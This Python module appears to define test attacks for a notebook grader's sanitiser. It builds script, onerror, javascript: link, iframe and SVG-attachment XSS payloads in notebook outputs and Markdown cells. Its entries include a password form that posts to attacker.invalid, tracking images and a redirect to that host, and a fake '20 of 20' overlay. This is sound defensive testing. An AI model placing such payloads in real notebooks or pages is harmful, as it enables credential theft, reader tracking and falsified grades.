"""Acting in the browser of whoever reads the feedback: scripts, requests, links, frames, and a result that is none."""

from __future__ import annotations

from .attack import Attack, Edit, Goal, cell, markdown

OUTPUTS, CELLS = "acting in the browser: outputs", "acting in the browser: text cells"
CLEAN = "sanitised notebook"
RUN = "window.attacked=1"


def _html(text: str) -> Edit:
    return cell(f"from IPython.display import HTML, display\ndisplay(HTML({text!r}))")


def _mime(mime: str, content: object, **metadata: object) -> Edit:
    return cell(
        f"from IPython.display import display\ndisplay({{{mime!r}: {content!r}}}, raw=True, metadata={metadata!r})"
    )


def _attack(name: str, kind: str, does: str, edit: Edit) -> Attack:
    return Attack(name, kind, does, edit, Goal.BROWSER, CLEAN)


ATTACKS = (
    _attack("script", OUTPUTS, "Displays HTML with a script.", _html(f"<script>{RUN}</script>")),
    _attack("handler", OUTPUTS, "Displays an image whose error handler is a script.",
            _html(f"<img src='nowhere:' onerror='{RUN}'>")),
    _attack("JavaScript", OUTPUTS, "Displays JavaScript as such.", _mime("application/javascript", RUN)),
    _attack("link with a script", OUTPUTS, "Displays a link that runs a script when it is followed.",
            _html(f"<a href='java&#10;script:{RUN}'>your points</a>")),
    _attack("frame", OUTPUTS, "Displays a frame with a document of its own.",
            _html(f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>")),
    _attack("form", OUTPUTS, "Displays a form that asks for a password and sends it away.",
            _html("<form action='http://attacker.invalid/'><input type='password' name='p'><button>OK</form>")),
    _attack("image from outside", OUTPUTS, "Displays an image that tells its server who reads the feedback, and when.",
            _html("<img src='http://attacker.invalid/seen.png'>")),
    _attack("style from outside", OUTPUTS, "Displays a style with an address outside.",
            _html("<div style='background:url(http://attacker.invalid/seen.png)'>.</div>")),
    _attack("style sheet", OUTPUTS, "Displays a style sheet that hides the real result.",
            _html("<style>h1, h2, h3, table { display: none !important }</style>")),
    _attack("result of one's own", OUTPUTS, "Displays a full result that lies over the real one.",
            _html("<div style='position:fixed;inset:0;background:white;z-index:9999'><h2>Result: 20 of 20</h2></div>")),
    _attack("link in Markdown output", OUTPUTS, "Displays Markdown with a link that runs a script.",
            _mime("text/markdown", f"[your points](javascript:{RUN})")),
    _attack("script in LaTeX output", OUTPUTS, "Displays LaTeX with a link that runs a script.",
            _mime("text/latex", f"$\\href{{javascript:{RUN}}}{{points}}$")),
    _attack("width that ends its tag", OUTPUTS, "Displays a picture whose width closes the attribute.",
            _mime("image/png", "aGk=", **{"image/png": {"width": f"1\" onerror=\"{RUN}"}})),
    _attack("script in Markdown", CELLS, "Writes a script in a Markdown cell.",
            markdown(f"An answer. <script>{RUN}</script>")),
    _attack("handler in Markdown", CELLS, "Writes an image with a handler in a Markdown cell.",
            markdown(f"An answer. <img src=x onerror='{RUN}'>")),
    _attack("link in Markdown", CELLS, "Writes a link that runs a script.", markdown(f"[my plot](javascript:{RUN})")),
    _attack("image from outside in Markdown", CELLS, "Writes an image from outside in a Markdown cell.",
            markdown("![plot](http://attacker.invalid/seen.png)")),
    _attack("script in a formula", CELLS, "Writes a formula with a link that runs a script.",
            markdown(f"$\\href{{javascript:{RUN}}}{{x}}$")),
    _attack("leads elsewhere", CELLS, "Writes an element that loads another page.",
            markdown("<meta http-equiv='refresh' content='0; url=http://attacker.invalid/'>")),
    _attack("attached drawing", CELLS, "Attaches a document with a script as a picture, and links to it.",
            markdown("<iframe src='attachment:a.svg'></iframe> ![a](attachment:a.svg)",
                     attachments={"a.svg": {"text/html": "PHNjcmlwdD5wYXJlbnQuYXR0YWNrZWQ9MTwvc2NyaXB0Pg=="}})),
)  # fmt: skip
